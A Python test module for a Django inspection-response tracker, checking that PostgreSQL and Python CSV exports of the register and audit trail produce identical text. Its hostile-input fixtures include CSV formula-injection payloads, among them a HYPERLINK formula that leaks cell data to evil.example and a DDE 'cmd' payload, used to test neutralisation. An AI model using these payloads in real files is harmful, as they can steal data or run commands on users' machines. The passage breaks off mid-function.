"""On PostgreSQL the database writes the CSV exports (COPY); it must write the same text as the Python writers.

`register_csv_postgres` against `register_csv_python` and `audit_csv_postgres` against `audit_csv_python`: every
status, hostile text, odd audit `changes`, clock changes, filters, page sizes and generated text; a download stopped
early leaves the connection usable; and `register_csv` / `audit_csv` pick the PostgreSQL writer there.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Generator, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest
from django.contrib.contenttypes.models import ContentType
from django.db import connection, models, transaction
from django.db.models import QuerySet, Value
from django.utils.text import slugify
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from psycopg.pq import TransactionStatus

from accounts.models import Role, User
from audit.context import acting_as
from audit.filters import AuditFilter
from audit.models import AuditEntry, AuditEntryQuerySet
from core.csv import FORMULA_TRIGGERS, neutralise
from exports import audit as audit_exports
from exports import register as register_exports
from exports.audit import POSTGRES_CHUNK_SIZE, audit_csv, audit_csv_postgres, audit_csv_python
from exports.register import (
    OVERDUE,
    register_csv,
    register_csv_postgres,
    register_csv_python,
)
from inspections.models import BodyKind, Force, Inspection, LocalPolicingBody, PublicationType
from responses import services
from responses.filters import SORT_CHOICES, ResponseFilter
from responses.models import ChecklistItem, ChecklistStep, Response
from tests.factories import approve

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("require_postgres")]

TODAY = dt.date(2024, 11, 10)
UTC = dt.UTC
HOSTILE = [
    *(f"{trigger}1+1" for trigger in FORMULA_TRIGGERS),
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=",
    "-",
    'say "hello"',
    '"',
    "comma, separated",
    ",",
    "carriage\rreturn",
    "line\nfeed",
    "windows\r\nline",
    "   leading spaces",
    "trailing space ",
    "café – naïve 🚀",
    "'quoted already",
    "\\.",
    "\\N",
    "",
]
# (moment, as the export writes it): either side of the 2024 clock changes, a fraction of a second (dropped),
# British Double Summer Time (1944) and British Standard Time (1968-1971).
CLOCK_CHANGES = [
    (dt.datetime(2024, 3, 31, 0, 59, 59, tzinfo=UTC), "2024-03-31T00:59:59+00:00"),
    (dt.datetime(2024, 3, 31, 1, 0, 0, tzinfo=UTC), "2024-03-31T02:00:00+01:00"),
    (dt.datetime(2024, 10, 27, 0, 59, 59, tzinfo=UTC), "2024-10-27T01:59:59+01:00"),
    (dt.datetime(2024, 10, 27, 1, 0, 0, tzinfo=UTC), "2024-10-27T01:00:00+00:00"),
    (dt.datetime(2024, 10, 27, 1, 59, 59, 999999, tzinfo=UTC), "2024-10-27T01:59:59+00:00"),
    (dt.datetime(1944, 6, 6, 6, 30, tzinfo=UTC), "1944-06-06T08:30:00+02:00"),
    (dt.datetime(1970, 1, 1, 0, 0, tzinfo=UTC), "1970-01-01T01:00:00+01:00"),
]
GENERATED = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@contextmanager
def rolled_back() -> Iterator[None]:
    """Run one generated example in a savepoint and undo its writes."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def make_body(name: str, *, force: str, slug: str | None = None) -> LocalPolicingBody:
    """An active body (new inspections of its force give it a response) with a force of its own."""
    own_force = Force.objects.create(name=force, slug=slug or slugify(force))
    return LocalPolicingBody.objects.create(kind=BodyKind.PCC, name=name, force=own_force, active=True)


def make_user(username: str, body: LocalPolicingBody | None, email: str = "officer@opcc.example", **extra: Any) -> User:
    return User.objects.create(username=username, email=email, body=body, role=Role.EDITOR, **extra)


def publication_type(name: str) -> PublicationType:
    return PublicationType.objects.get_or_create(name=name, defaults={"slug": slugify(name, allow_unicode=True)})[0]


def make_inspection(
    title: str, published_on: dt.date, forces: list[Force], types: Sequence[str] = ("PEEL",)
) -> Inspection:
    """An inspection with its forces and publication types, and a response for each active body of those forces."""
    inspection = Inspection.objects.create(
        title=title, published_on=published_on, report_url="https://hmicfrs.example/report"
    )
    inspection.forces.set(forces)
    inspection.publication_types.set([publication_type(name) for name in types])
    services.inspection_sync_responses(inspection=inspection)
    return inspection


def make_response(body: LocalPolicingBody, title: str, published_on: dt.date = dt.date(2024, 9, 24)) -> Response:
    return Response.objects.get(inspection=make_inspection(title, published_on, [body.force]), body=body)


def register_text(responses: QuerySet[Response], today: dt.date = TODAY) -> str:
    """The register as PostgreSQL writes it, once it is known to equal the Python writer's."""
    python = "".join(register_csv_python(responses, today=today))
    postgres = "".join(register_csv_postgres(responses, today=today))
    assert postgres == python
    return postgres


def audit_text(entries: AuditEntryQuerySet, pages: tuple[tuple[int, int], ...] = ((1, 1), (50_000, 2_000))) -> str:
    """The audit trail as PostgreSQL writes it, once it is known to equal the Python writer's for each pair of page
    sizes (PostgreSQL, Python)."""
    texts = {
        (postgres, python): (
            "".join(audit_csv_postgres(entries, chunk_size=postgres)),
            "".join(audit_csv_python(entries, chunk_size=python)),
        )
        for postgres, python in pages
    }
    for written_by_postgres, written_by_python in texts.values():
        assert written_by_postgres == written_by_python
    return texts[pages[0]][0]


# --- the register ---------------------------------------------------------------------------------------------------
@dataclass
class Register:
    norfolk: LocalPolicingBody
    suffolk: LocalPolicingBody
    officer: User
    by_status: dict[str, Response]
    joint: list[Response]
    hostile: list[Response]


def settled(response: Response) -> Response:
    response.body_comments = 'Our comments, "in full"'
    response.cc_comments_not_received = True
    response.save()
    return response


def build_register(steps: list[ChecklistStep]) -> Register:
    """Responses in every status, a joint inspection of two forces with three publication types, and one response
    per hostile string (its inspection title, force, body, publication type and published URL)."""
    norfolk = make_body("Norfolk Police and Crime Commissioner", force="Norfolk")
    suffolk = make_body("Suffolk Police and Crime Commissioner", force="Suffolk")
    officer = make_user("officer", norfolk)

    def new(title: str, published_on: dt.date) -> Response:
        return make_response(norfolk, title, published_on)

    by_status = {
        "not_started": new("Not started", dt.date(2024, 10, 20)),
        OVERDUE: new("Overdue", dt.date(2024, 8, 1)),
        "awaiting_cc": new("Awaiting", dt.date(2024, 9, 24)),
        "drafting": new("Drafting", dt.date(2024, 9, 24)),
        "ready": settled(new("Ready", dt.date(2024, 9, 24))),
        "published": settled(new("Published", dt.date(2024, 8, 1))),
        "complete": settled(new("Complete", dt.date(2024, 9, 2))),
    }
    by_status["awaiting_cc"].cc_invited_on = dt.date(2024, 9, 30)
    by_status["awaiting_cc"].save()
    services.response_sync_status(response=by_status["awaiting_cc"])
    by_status["drafting"].body_comments = 'Drafting, "started"'
    by_status["drafting"].save()
    services.response_sync_status(response=by_status["drafting"])
    services.response_mark_ready(response=by_status["ready"])
    approve(by_status["published"])
    services.response_publish(
        response=by_status["published"], published_on=dt.date(2024, 9, 20), published_url="https://opcc.example/a,b"
    )
    for n, step in enumerate(steps):
        if step.required:
            services.checklist_tick(
                response=by_status["complete"], step=step, user=officer, done_on=dt.date(2024, 9, 3 + n)
            )
    approve(by_status["complete"])
    services.response_publish(
        response=by_status["complete"], published_on=dt.date(2024, 10, 1), published_url="=https://opcc.example/c"
    )

    inspection = make_inspection(
        title="Joint inspection",
        published_on=dt.date(2024, 9, 24),
        forces=[norfolk.force, suffolk.force],
        types=["Thematic", "PEEL", "Joint"],
    )
    joint = list(Response.objects.filter(inspection=inspection).order_by("body__name"))
    for response in joint:
        services.checklist_tick(response=response, step=steps[0], user=None, done_on=dt.date(2024, 10, 1))
        services.checklist_tick(response=response, step=steps[2], user=None, done_on=dt.date(2024, 10, 5))
    services.checklist_untick(response=joint[1], step=steps[2], reason="Page taken down")

    hostile = []
    for n, value in enumerate(HOSTILE):
        body = make_body(value, force=value, slug=f"hostile-force-{n}")
        hostile_inspection = make_inspection(value, dt.date(2024, 9, 1) + dt.timedelta(days=n % 3), [body.force])
        hostile_inspection.publication_types.add(PublicationType.objects.create(name=value, slug=f"hostile-{n}"))
        response = Response.objects.get(inspection=hostile_inspection, body=body)
        response.published_url = value
        response.save()
        if n % 2:
            services.checklist_tick(
                response=response,
                step=steps[n % len(steps)],
                user=None,
                done_on=dt.date(2024, 10, 1) + dt.timedelta(days=n),
            )
        hostile.append(response)
    return Register(norfolk, suffolk, officer, by_status, joint, hostile)


def test_register_matches_for_every_status_and_hostile_text(steps: list[ChecklistStep]) -> None:
    """Every status, the publication types joined in name order, step dates and hostile text in each text column:
    the same text from both writers, whatever the day of the export."""
    register = build_register(steps)
    total = len(register.by_status) + len(register.joint) + len(HOSTILE)
    assert Response.objects.count() == total
    for today in (dt.date(2024, 9, 1), TODAY, dt.date(2024, 11, 18), dt.date(2025, 6, 1)):
        assert len(read_csv(register_text(Response.objects.all(), today))) == total

    rows = read_csv(register_text(Response.objects.all()))
    statuses = {row["status"] for row in rows}
    assert statuses == {"not_started", OVERDUE, "awaiting_cc", "drafting", "ready", "published", "complete"}
    joint = [row for row in rows if row["inspection"] == "Joint inspection"]
    assert [row["body"] for row in joint] == [register.norfolk.name, register.suffolk.name]
    assert {row["publication_types"] for row in joint} == {"Joint; PEEL; Thematic"}
    assert [row["published_on_website"] for row in joint] == ["2024-10-05", ""]
    assert {row["forwarded_to_chief_constable"] for row in joint} == {"2024-10-01"}
    assert joint[0]["days_left"] == "8"
    (complete,) = [row for row in rows if row["status"] == "complete"]
    assert complete["days_left"] == ""
    assert complete["published_url"] == "'=https://opcc.example/c"
    assert complete["copied_to_home_secretary"] == ""
    titles = {row["inspection"] for row in rows}
    assert {neutralise(value) for value in HOSTILE} <= titles
    assert {f"'{value}" for value in HOSTILE if value.startswith(FORMULA_TRIGGERS)} <= titles
    assert {row["published_url"] for row in rows} >= {neutralise(value) for value in HOSTILE}


def test_register_matches_for_filtered_querysets(steps: list[ChecklistStep]) -> None:
    """One body, a user's scope, the register filters, a multi-valued join, an exclusion and no responses at all:
    the same text from both writers, with the rows of that queryset."""
    register = build_register(steps)
    national = make_user("national", None, is_superuser=True, is_staff=True)
    peel = PublicationType.objects.get(name="PEEL")

    def filtered(**params: str) -> QuerySet[Response]:
        return ResponseFilter(params, queryset=Response.objects.for_user(national), user=national, today=TODAY).qs

    querysets = [
        Response.objects.filter(body=register.norfolk),
        Response.objects.for_user(register.officer),
        filtered(status=OVERDUE),
        filtered(status="published"),
        filtered(publication_type=peel.slug, q="o"),
        Response.objects.filter(inspection__publication_types__name__in=["PEEL", "Joint", "Thematic"]),
        Response.objects.filter(inspection__publication_types__name__in=["PEEL", "Joint"]).distinct(),
        Response.objects.exclude(body__force__name="Norfolk").order_by("-id"),
        Response.objects.filter(pk__in=[r.pk for r in register.hostile[::3]]),
    ]
    for responses in querysets:
        count = len(set(responses.values_list("pk", flat=True)))
        assert count > 0
        assert len(read_csv(register_text(responses))) == count
    for nothing in (Response.objects.none(), Response.objects.filter(body__name="No such body")):
        assert len(register_text(nothing).splitlines()) == 1


@pytest.mark.parametrize(
    "params", [{"sort": sort} for sort, _ in SORT_CHOICES] + [{"finished": "1"}, {"finished": "0"}]
)
def test_register_matches_in_every_order_the_filters_ask_for(
    steps: list[ChecklistStep], params: dict[str, str]
) -> None:
    """Each sort and the work order: the same text from both writers, the rows in the order the dashboard lists."""
    build_register(steps)
    national = make_user("national", None, is_superuser=True, is_staff=True)
    filterset = ResponseFilter(params, queryset=Response.objects.for_user(national), user=national, today=TODAY)
    assert filterset.ordering is not None
    python = "".join(register_csv_python(filterset.qs, today=TODAY, ordering=filterset.ordering))
    postgres = "".join(register_csv_postgres(filterset.qs, today=TODAY, ordering=filterset.ordering))
    assert postgres == python
    listed = [
        (neutralise(title), neutralise(body))
        for title, body in filterset.qs.values_list("inspection__title", "body__name")
    ]
    assert [(row["inspection"], row["body"]) for row in read_csv(postgres)] == listed


def test_register_filtered_through_checklist_items_matches(steps: list[ChecklistStep]) -> None:
    """A queryset filtered on one checklist step still shows the dates of every step it has done."""
    response = make_response(make_body("Norfolk Police and Crime Commissioner", force="Norfolk"), "Filtered")
    services.checklist_tick(response=response, step=steps[0], user=None, done_on=dt.date(2024, 10, 1))
    services.checklist_tick(response=response, step=steps[1], user=None, done_on=dt.date(2024, 10, 2))
    (row,) = read_csv(register_text(Response.objects.filter(checklist_items__step=steps[0])))
    assert (row["forwarded_to_chief_constable"], row["forwarded_to_panel"]) == ("2024-10-01", "2024-10-02")


# --- the audit trail ------------------------------------------------------------------------------------------------
@dataclass
class Trail:
    response: Response
    inspection: Inspection
    alice: User
    bob: User
    gone: int


def build_trail(steps: list[ChecklistStep]) -> Trail:
    """Entries written by the app's own paths: edits with reasons, checklist ticks (a user field), owners (a user
    field, one of them later deleted), a corrected publication date on the inspection and its m2m fields."""
    body = make_body('=Norfolk, "PCC"', force="Norfolk")
    alice = make_user("alice", body)
    bob = make_user("=bob", body)
    leaver = make_user("leaver", body, email="leaver@opcc.example")
    response = make_response(body, '@PEEL 2024, "quoted"\r\nsecond line')
    inspection = response.inspection
    with acting_as(user=alice, label=""):
        services.response_override_deadline(
            response=response, deadline=dt.date(2024, 12, 2), reason='-agreed, "in writing"\n– é 🚀'
        )
        services.checklist_tick(
            response=response,
            step=steps[0],
            user=alice,
            done_on=dt.date(2024, 10, 1),
            evidence_reference="+44 20",
            note="=cmd|' /C calc'!A0",
        )
        services.checklist_untick(response=response, step=steps[0], reason="\tticked by mistake")
        response.owner = bob
        response.save()
    with acting_as(user=leaver, label=""):
        response.owner = leaver
        response.body_comments = 'line\rbreak, and "quotes"'
        response.save()
    with acting_as(label="command:loaddemo"):
        services.inspection_correct_published_on(
            inspection=inspection, published_on=dt.date(2024, 9, 25), reason="=HMICFRS corrected the date"
        )
        inspection.publication_types.add(publication_type("=Joint; thematic"), publication_type("é"))
        inspection.publication_types.remove(PublicationType.objects.get(name="PEEL"))
        inspection.forces.add(Force.objects.create(name="Suffolk", slug="suffolk"))
    gone = leaver.pk
    leaver.delete()
    return Trail(Response.objects.get(pk=response.pk), inspection, alice, bob, gone)


def odd_changes(trail: Trail) -> list[tuple[type[models.Model] | ContentType, Any]]:
    """`changes` no app path writes, each with the content type it is stored under."""
    alice, gone = str(trail.alice.pk), trail.gone
    retired, _ = ContentType.objects.get_or_create(app_label="retired", model="formerthing")
    return [
        (Response, 'legacy text: status changed from "open" to =closed'),
        (Response, ["a", "list"]),
        (Response, [1, 2, 3]),
        (Response, None),
        (Response, Value(None, models.JSONField())),
        (Response, 42),
        (Response, True),
        (Response, "=1+1"),
        (Response, {}),
        (Response, {"owner": ["not a number", alice]}),
        (Response, {"owner": [str(gone), trail.alice.pk]}),
        (Response, {"owner": ["0" + alice, f"{alice}\n"]}),
        (Response, {"owner": ["99999999999999999999", "999999999999999999"]}),
        (Response, {"owner": [None, "-1"]}),
        (Response, {"owner": [f" {alice}", "1.0"]}),
        (Response, {"owner": [str(trail.bob.pk), "٣"]}),
        (Response, {"owner": alice}),
        (Response, {"owner": [alice, alice, alice]}),
        (Response, {"owner": [[alice], {"id": trail.alice.pk}]}),
        (Response, {"body_comments": [{"nested": [1, {"k": None, "é": "–"}], "a": "=b"}, [True, False, None]]}),
        (
            Response,
            {
                "body_comments": ["=1+1", "\r\n"],
                "cc_comments": [None, ""],
                "version": [1, 10**30],
                "deadline_overridden": [False, True],
                "status": ["not_started", "drafting"],
            },
        ),
        (Response, {"body_comments": 'plain, "value"'}),
        (Response, {"body_comments": -7}),
        (Response, {"body_comments": [[], {}]}),
        (Response, {"body_comments": ['{"a": 1}', "[1, 2]"]}),
        (Response, {"body_comments": ["\x01\x1f\x7f", "\u2028\ufeff"]}),
        (Response, {"body_comments": [{"s": '\x01\x08\x0c\t"\\/'}, ["\u2028", "\x7f"]]}),
        (
            Response,
            {"body_comments": {"type": "m2m", "operation": "add", "objects": ["=a", None, 3, {"x": [1]}, "b; c"]}},
        ),
        (Response, {"body_comments": {"type": "m2m", "operation": "delete", "objects": "not a list"}}),
        (Response, {"body_comments": {"type": "m2m", "objects": []}}),
        (Response, {"body_comments": {"type": "m2m"}}),
        (Response, {"body_comments": {"type": "other", "objects": [1]}}),
        (Response, {"body_comments": {"type": ["m2m"], "operation": "add"}}),
        (Response, {"not_a_field": ["dropped", "too"], "status": ["ready", "published"]}),
        (Response, {"not_a_field": [1, 2]}),
        (Response, {"responses.Response.None": ["x", "y"], "": ["empty", "key"]}),
        (
            Response,
            {"cc_comments": [" leading", "trailing "], "body_comments": ["", None], "published_url": ["@x", "\t"]},
        ),
        (ChecklistItem, {"done_by": [None, alice], "done_on": [None, "2024-10-01"]}),
        (ChecklistItem, {"done_by": [str(gone), "x"], "note": ["-", "+"]}),
        (
            Inspection,
            {"title": ["=old", "new"], "publication_types": {"type": "m2m", "operation": "add", "objects": ["A"]}},
        ),
        (retired, {"anything": [1, 2], "": ["empty", "key"], "owner": [alice, "1"], "nested": {"a": [None]}}),
        (retired, "legacy text on a retired model"),
    ]


def add_odd_entries(trail: Trail) -> None:
    """One entry per odd `changes`, each with other odd columns: hostile text, missing or unknown bodies, responses,
    inspections and actors, and timestamps either side of the clock changes."""
    reasons = ["", "=SUM(A1)", 'a "quoted", reason', "line\nbreak", "crlf\r\nend", " leading", "é – 🚀", "\rx"]
    reprs = ["plain", "=repr", "comma, repr", 'quote " repr', "new\nline", ""]
    bodies = [trail.response.body_id, None, 10**12]
    responses = [trail.response.pk, None, 10**12]
    actors: list[dict[str, Any]] = [
        {"actor": trail.alice},
        {"actor": trail.bob, "actor_label": "ignored"},
        {"actor_label": "=task:import"},
        {"actor_email": "-mail@opcc.example"},
        {"actor_email": None},
        {"actor_label": "", "actor_email": ""},
    ]
    for n, (model, changes) in enumerate(odd_changes(trail)):
        content_type = model if isinstance(model, ContentType) else ContentType.objects.get_for_model(model)
        is_inspection = model is Inspection
        AuditEntry.objects.create(
            content_type=content_type,
            object_pk=str(trail.inspection.pk) if is_inspection else f"{n}",
            object_id=[trail.inspection.pk, None, 10**12][n % 3] if is_inspection else n,
            object_repr=reprs[n % len(reprs)],
            action=AuditEntry.Action.UPDATE,
            changes=changes,
            reason=reasons[n % len(reasons)],
            timestamp=CLOCK_CHANGES[n % len(CLOCK_CHANGES)][0],
            body_id=bodies[n % len(bodies)],
            response_id=None if is_inspection else responses[n % len(responses)],
            **actors[n % len(actors)],
        )
    for n, object_id in enumerate([trail.inspection.pk, None, 10**12]):
        AuditEntry.objects.create(
            content_type=ContentType.objects.get_for_model(Inspection),
            object_pk=str(object_id),
            object_id=object_id,
            object_repr=f"inspection {n}",
            action=AuditEntry.Action.UPDATE,
            changes={"title": ["=old", f"new {n}"]},
            timestamp=CLOCK_CHANGES[n][0],
        )


def test_audit_matches_for_real_paths_and_odd_changes_at_any_page_size(steps: list[ChecklistStep]) -> None:
    """Entries from the app's paths and odd stored `changes`: the same text from both writers, whatever the page
    size of either."""
    trail = build_trail(steps)
    add_odd_entries(trail)
    entries = AuditEntry.objects.all()
    text = audit_text(entries, pages=((1, 1), (2, 3), (3, 2), (7, 1), (50_000, 2_000), (1, 5_000)))
    rows = read_csv(text)
    assert len(rows) > entries.count() > 60

    def where(field: str, model: str = "response") -> list[dict[str, str]]:
        return [row for row in rows if row["field"] == field and row["object"].startswith(f"{model} #")]

    owners = {(row["old"], row["new"], row["actor"]) for row in where("owner")}
    assert ("", "'=bob", "alice") in owners
    assert ("'=bob", str(trail.gone), "leaver@opcc.example") in owners
    assert ("not a number", "alice") in {(row["old"], row["new"]) for row in where("owner")}
    assert ("", "alice") in {(row["old"], row["new"]) for row in where("done_by", "checklist item")}
    m2m = {row["new"] for row in where("publication_types", "inspection")}
    assert "removed: PEEL" in m2m
    assert {"added: =Joint; thematic; é", "added: é; =Joint; thematic"} & m2m
    (corrected,) = [row for row in where("published_on", "inspection") if row["old"]]
    assert corrected["inspection"] == neutralise(trail.inspection.title)
    assert corrected["reason"] == "'=HMICFRS corrected the date"
    assert corrected["actor"] == "command:loaddemo"
    assert {'legacy text: status changed from "open" to =closed', "'=1+1"} <= {row["new"] for row in where("changes")}
    assert {row["new"] for row in rows if row["object"].startswith("formerthing #") and row["field"] == "changes"} == {
        "legacy text on a retired model"
    }
    assert {expected for _, expected in CLOCK_CHANGES} <= {row["timestamp"] for row in rows}


def test_audit_matches_for_filtered_querysets(steps: list[ChecklistStep]) -> None:
    """By response, by body, by time (the audit filters, which cross both clock changes), by a sparse set of ids, and
    nothing at all: the same text from both writers, with a row or more for each entry of that queryset."""
    trail = build_trail(steps)
    add_odd_entries(trail)
    everything = AuditEntry.objects.all()
    ids = list(everything.order_by("id").values_list("id", flat=True))
    querysets = [
        everything.filter(response_id=trail.response.pk),
        everything.filter(body_id=trail.response.body_id),
        AuditFilter({"from": "2024-03-31", "to": "2024-10-27"}, queryset=AuditEntry.objects.all()).qs,
        AuditFilter({"response": str(trail.response.pk), "to": "2024-10-26"}, queryset=AuditEntry.objects.all()).qs,
        everything.filter(timestamp__gte=CLOCK_CHANGES[1][0], timestamp__lt=CLOCK_CHANGES[3][0]),
        everything.filter(id__in=ids[::3]),
        everything.exclude(content_type=ContentType.objects.get_for_model(Response)),
    ]
    for entries in querysets:
        count = entries.count()
        assert 0 < count < len(ids)
        text = audit_text(entries, pages=((1, 1), (2, 3), (50_000, 2_000)))
        assert len(read_csv(text)) >= count
    for nothing in (AuditEntry.objects.none(), everything.filter(response_id=10**12 + 1)):
        assert len(audit_text(nothing).splitlines()) == 1


def test_audit_timestamps_either_side_of_the_clock_changes() -> None:
    """ISO 8601 with the Europe/London offset of the moment, fractions of a second dropped, from both writers."""
    content_type = ContentType.objects.get_for_model(Response)
    for moment, _ in CLOCK_CHANGES:
        AuditEntry.objects.create(
            content_type=content_type, object_pk="1", object_repr="r", action=AuditEntry.Action.ACCESS, timestamp=moment
        )
    rows = read_csv(audit_text(AuditEntry.objects.all(), pages=((1, 1), (2, 3), (50_000, 2_000))))
    assert [row["timestamp"] for row in rows] == [expected for _, expected in CLOCK_CHANGES]


def test_audit_timestamp_with_a_seconds_offset_matches() -> None:
    """Before 1 December 1847 London kept local mean time, UTC-00:01:15: both writers give that offset to the second."""
    AuditEntry.objects.create(
        content_type=ContentType.objects.get_for_model(Response),
        object_pk="1",
        object_repr="r",
        action=AuditEntry.Action.ACCESS,
        timestamp=dt.datetime(1800, 1, 1, 12, 0, tzinfo=UTC),
    )
    (row,) = read_csv(audit_text(AuditEntry.objects.all()))
    assert row["timestamp"] == "1800-01-01T11:58:45-00:01:15"


def test_audit_small_numbers_match() -> None:
    """A stored number below 1e-4 reads the same from both writers (Python's JSON writes it with an exponent)."""
    AuditEntry.objects.create(
        content_type=ContentType.objects.get_for_model(Response),
        object_pk="1",
        object_repr="r",
        action=AuditEntry.Action.UPDATE,
        changes={"body_comments": [1e-07, 0.00025], "cc_comments": {"nested": 2.5e-05}},
    )
    rows = read_csv(audit_text(AuditEntry.objects.all()))
    assert len(rows) == 2


# --- generated text -------------------------------------------------------------------------------------------------
NO_NUL = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
CSVISH = st.one_of(st.sampled_from([*FORMULA_TRIGGERS, ",", '"', "'", "\n", "\r", " ", "é", "–", "🚀", "\\"]), NO_NUL)
any_text = st.text(alphabet=CSVISH, max_size=40)


@pytest.fixture
def generated_base(steps: list[ChecklistStep]) -> tuple[Response, list[str]]:
    """One response with a step done and a few users, under which each example writes its own text."""
    body = make_body("Norfolk Police and Crime Commissioner", force="Norfolk")
    users = [make_user(name, body) for name in ("alice", "=bob", "")]
    response = make_response(body, "Generated")
    response.owner = users[0]
    response.save()
    services.checklist_tick(response=response, step=steps[1], user=users[1], done_on=dt.date(2024, 10, 3))
    return response, [str(user.pk) for user in users]


@GENERATED
@given(title=any_text, force=any_text, body=any_text, kind=any_text, url=any_text)
def test_generated_register_text_matches(
    generated_base: tuple[Response, list[str]], title: str, force: str, body: str, kind: str, url: str
) -> None:
    """Any text (but NUL) as inspection title, force, body, publication type and URL: the same register text."""
    response, _ = generated_base
    with rolled_back():
        Inspection.objects.filter(pk=response.inspection_id).update(title=title)
        Force.objects.filter(pk=response.body.force_id).update(name=force)
        LocalPolicingBody.objects.filter(pk=response.body_id).update(name=body)
        PublicationType.objects.filter(inspections=response.inspection_id).update(name=kind)
        Response.objects.filter(pk=response.pk).update(published_url=url)
        (row,) = read_csv(register_text(Response.objects.all()))
        assert (row["inspection"], row["force"], row["body"]) == (
            neutralise(title),
            neutralise(force),
            neutralise(body),
        )
        assert (row["publication_types"], row["published_url"]) == (neutralise(kind), neutralise(url))


def json_values(user_ids: list[str]) -> st.SearchStrategy[Any]:
    leaves = st.none() | st.booleans() | st.integers(-(10**20), 10**20) | any_text | st.sampled_from(user_ids)
    return st.recursive(
        leaves, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(any_text, inner, max_size=3), max_leaves=6
    )


def audit_changes(user_ids: list[str]) -> st.SearchStrategy[Any]:
    values = json_values(user_ids)
    m2m = st.fixed_dictionaries(
        {
            "type": st.just("m2m"),
            "operation": st.sampled_from(["add", "remove"]),
            "objects": st.lists(values, max_size=3),
        }
    )
    fields = st.sampled_from(["owner", "body_comments", "status", "done_by", "title"]) | any_text
    return st.dictionaries(fields, st.tuples(values, values).map(list) | m2m | values, max_size=4) | values


@GENERATED
@given(data=st.data())
def test_generated_audit_text_matches(generated_base: tuple[Response, list[str]], data: st.DataObject) -> None:
    """Any text (but NUL) as reason, description and actor label, any JSON (numbers: integers) as `changes`, any
    actor or none, at any moment from 1900 to 2100: the same audit text."""
    response, user_ids = generated_base
    models_ = [Response, ChecklistItem, Inspection]
    with rolled_back():
        for _ in range(data.draw(st.integers(1, 3))):
            model = data.draw(st.sampled_from(models_))
            AuditEntry.objects.create(
                content_type=ContentType.objects.get_for_model(model),
                object_pk=data.draw(any_text),
                object_id=response.inspection_id if model is Inspection else response.pk,
                object_repr=data.draw(any_text),
                action=AuditEntry.Action.UPDATE,
                changes=data.draw(audit_changes(user_ids)),
                reason=data.draw(any_text),
                actor_label=data.draw(any_text),
                actor_id=data.draw(st.none() | st.sampled_from(user_ids).map(int)),
                timestamp=data.draw(
                    st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2100, 1, 1), timezones=st.just(UTC))
                ),
                body_id=response.body_id,
                response_id=None if model is Inspection else response.pk,
            )
        audit_text(AuditEntry.objects.all(), pages=((1, 2_000), (2, 1)))


# --- a download stopped early ---------------------------------------------------------------------------------------
@pytest.mark.django_db(transaction=True)
def test_an_audit_download_stopped_early_leaves_the_connection_usable() -> None:
    """Mid-download, nothing is open in the database (the page's COPY has finished into a spool file); closing
    the stream leaves the same connection answering queries and another export at once. Autocommit, as when a web
    download is cancelled."""
    content_type = ContentType.objects.get_for_model(Response)
    AuditEntry.objects.bulk_create(
        AuditEntry(
            content_type=content_type,
            object_pk=str(n),
            object_repr=f"response {n}",
            action=AuditEntry.Action.UPDATE,
            changes={"body_comments": ["", "x" * 30_000]},
            reason="r",
            timestamp=dt.datetime(2024, 1, 1, tzinfo=UTC),
        )
        for n in range(100)
    )
    stream = audit_csv_postgres(AuditEntry.objects.all())
    assert isinstance(stream, Generator)
    header, rows = next(stream), next(stream)
    database = connection.connection
    backend = database.info.backend_pid
    assert database.info.transaction_status == TransactionStatus.IDLE  # no COPY, transaction or lock held
    stream.close()
    assert database.info.transaction_status == TransactionStatus.IDLE
    assert AuditEntry.objects.filter(object_pk="99").count() == 1
    assert connection.connection.info.backend_pid == backend
    whole = "".join(audit_csv_postgres(AuditEntry.objects.all()))
    assert whole.startswith(header + rows)
    assert len(read_csv(whole)) == 100


@pytest.mark.django_db(transaction=True)
def test_a_register_download_stopped_early_leaves_the_connection_usable(steps: list[ChecklistStep]) -> None:
    """As for the audit trail: mid-download no transaction is open, and a cancelled download leaves the connection
    ready for queries."""
    force = Force.objects.create(name="Norfolk", slug="norfolk")
    bodies = LocalPolicingBody.objects.bulk_create(
        LocalPolicingBody(kind=BodyKind.PCC, name=f"Body {n}", force=force, active=True) for n in range(10)
    )
    kinds = PublicationType.objects.bulk_create(
        PublicationType(name=f"{n:02} {'k' * 70}", slug=f"kind-{n}") for n in range(60)
    )
    inspections = Inspection.objects.bulk_create(
        Inspection(title=f"Inspection {n} {'t' * 250}", published_on=dt.date(2024, 9, 24)) for n in range(50)
    )
    Link = Inspection.publication_types.through
    Link.objects.bulk_create(
        Link(inspection_id=inspection.pk, publicationtype_id=kind.pk) for inspection in inspections for kind in kinds
    )
    Response.objects.bulk_create(
        Response(
            inspection=inspection,
            body=body,
            deadline=dt.date(2024, 11, 19),
            statutory_last_day=dt.date(2024, 11, 18),
        )
        for inspection in inspections
        for body in bodies
    )
    stream = register_csv_postgres(Response.objects.all(), today=TODAY)
    assert isinstance(stream, Generator)
    header, rows = next(stream), next(stream)
    database = connection.connection
    backend = database.info.backend_pid
    assert database.info.transaction_status == TransactionStatus.IDLE  # no COPY, transaction or lock held
    stream.close()
    assert database.info.transaction_status == TransactionStatus.IDLE
    assert Response.objects.filter(body=bodies[0]).count() == 50
    assert connection.connection.info.backend_pid == backend
    whole = "".join(register_csv_postgres(Response.objects.all(), today=TODAY))
    assert whole.startswith(header + rows)
    assert len(read_csv(whole)) == 500


# --- dispatch -------------------------------------------------------------------------------------------------------
def test_register_csv_uses_the_postgres_writer(steps: list[ChecklistStep], monkeypatch: pytest.MonkeyPatch) -> None:
    """On PostgreSQL `register_csv` hands the queryset, day and steps to `register_csv_postgres`, never to Python."""
    make_response(make_body("Norfolk Police and Crime Commissioner", force="Norfolk"), "=Dispatched")
    calls: list[dict[str, Any]] = []

    def spy(responses: QuerySet[Response], **kwargs: Any) -> Iterator[str]:
        calls.append(kwargs)
        return register_csv_postgres(responses, **kwargs)

    def refuse(*args: Any, **kwargs: Any) -> Iterator[str]:
